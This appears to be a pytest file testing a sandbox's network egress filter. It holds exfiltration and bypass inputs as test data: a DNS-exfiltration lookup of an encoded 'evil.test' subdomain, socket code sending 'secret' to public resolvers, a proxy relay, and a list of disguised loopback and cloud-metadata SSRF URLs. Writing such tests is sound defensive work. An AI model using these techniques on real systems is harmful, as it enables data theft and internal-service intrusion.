"""What users report of the network of sandboxes: the table is in `tests/machines/test_field_cases_machines.py`."""

from __future__ import annotations

import pytest

from ..world import OPEN, OTHER

CODE = ("-k", "-o", "/dev/null", "-w", "%{http_code}")


def code(b, *arguments):
    return b.curl(*CODE, *arguments)[1]


def test_c26(box):
    """Reachable is what is on the list, by every name that is used: that of the connection, of TLS, of the request."""
    if not box.world.authority:
        pytest.skip("needs cryptography")
    b = box(["open.test:443", "open.test:80"])
    assert (code(b, "https://open.test/"), code(b, "https://other.test/")) == ("200", "000")
    assert code(b, "https://OPEN.test./") == "200"
    box.world.reached()
    assert code(b, "--connect-to", "other.test:443:open.test:443", "https://other.test/") == "000"
    assert code(b, "-H", "Host: other.test", "http://open.test/") in ("000", "403")
    assert code(b, "https://open.test:4443/") == "000"
    for name in ("xopen.test", "open.test.evil.test", "open.test@other.test"):
        assert code(b, f"https://{name}/") == "000", name
    relay = (
        "import socket, subprocess, threading\n"
        "s = socket.create_server(('127.0.0.1', 9000))\n"
        "def serve():\n"
        "    c, _ = s.accept(); c.recv(4096)\n"
        "    try:\n"
        "        u = socket.create_connection(('other.test', 443), 5); c.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n"
        "    except OSError: c.sendall(b'HTTP/1.1 502 no\\r\\n\\r\\n')\n"
        "    c.close()\n"
        "threading.Thread(target=serve, daemon=True).start()\n"
        "print(subprocess.run(['curl', '-sk', '-m', '8', '-o', '/dev/null', '-w', '%{http_code}', '-x', 'http://127.0.0.1:9000', 'https://other.test/'],"
        " capture_output=True, text=True).stdout)"
    )
    assert b.python(relay)[1] == "000\n"
    assert {address for address, _ in box.world.reached()} <= {
        OPEN
    }  # those whose TLS or Host was another got no further
    assert {row.host for row in b.rows(verdict="blocked")} >= {"other.test"}


def test_c27(box):
    """The resolver is asked for names on the list, and nothing else carries anything out."""
    asked = box.world.folder / "asked"
    asked.write_text("")
    b = box(["open.test"])
    look = "getent hosts open.test; getent hosts c2VjcmV0.evil.test; curl -s -m 3 http://c2VjcmV0.evil.test/"
    b.run("sh", "-c", look)
    sent = (
        "import socket\n"
        "def tried(act):\n"
        "    try: act()\n"
        "    except OSError: pass\n"
        "for family, where in ((socket.AF_INET, '8.8.8.8'), (socket.AF_INET6, '2001:4860:4860::8888')):\n"
        "    tried(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b'secret', (where, 53)))\n"
        "    tried(lambda: socket.create_connection((where, 53), 3).sendall(b'secret'))\n"
        "    tried(lambda: socket.create_connection((where, 443), 3).sendall(b'secret'))\n"
        "    tried(lambda: socket.socket(family, socket.SOCK_RAW, 1).sendto(b'secret', (where, 0)))\n"
        "    tried(lambda: socket.socket(family, socket.SOCK_DGRAM, 1).sendto(b'secret', (where, 0)))"
    )
    b.python(sent)
    assert box.world.reached() == []
    assert b.curl("http://open.test/")[1] == OPEN  # the control
    assert set(asked.read_text().split()) == {"open.test"}


DISGUISES = (
    "http://127.0.0.1:8080/",
    "http://[::1]:8080/",
    "http://[::ffff:127.0.0.1]:8080/",
    "http://[::127.0.0.1]:8080/",
    "http://[64:ff9b::7f00:1]:8080/",
    "http://[2002:7f00:1::]:8080/",
    "http://2130706433:8080/",
    "http://0x7f.1:8080/",
    "http://0:8080/",
    "http://localhost.:8080/",
    "http://169.254.169.254/",
    "http://100.100.100.200/",
    "http://[fd00:ec2::254]/",
    "http://mapped.test/",
    "http://compatible.test/",
    "http://nat64.test/",
    "http://ula.test/",
)


def test_c28(box):
    """No way to the host, its neighbours or the service of metadata, also where everything else is allowed."""
    b = box("internet")
    for url in DISGUISES:
        assert b.curl("-g", "-L", *CODE, url)[1] in ("000", "403"), url
    assert box.world.reached() == []
    hop = "import urllib.request as u\ntry: print(u.urlopen('http://open.test/to?{}', timeout=9).read().decode())"
    hop += "\nexcept OSError as e: print('stopped')"
    assert b.python(hop.format("http://10.0.0.5/"))[1] == "stopped\n"
    assert b.python(hop.format("http://other.test/"))[1] == f"{OTHER}\n"  # the control: another hop that is allowed
    assert {address for address, _ in box.world.reached()} == {OPEN, OTHER}
    assert b.curl("http://open.test/")[1] == OPEN
    closed = {row.reason for row in b.rows(verdict="blocked") if row.host == "169.254.169.254"}
    assert closed and not any("refused" in reason for reason in closed)


@pytest.mark.parametrize("first", [0, 1])
def test_c28_a_name_that_changes(box, first):
    """Each connection asks anew, and what was checked is what is connected to."""
    b = box(["rebinding.test:*"])
    for _ in range(4 + first):
        b.curl("http://rebinding.test/")
    assert {address for address, _ in box.world.reached()} == {OPEN}
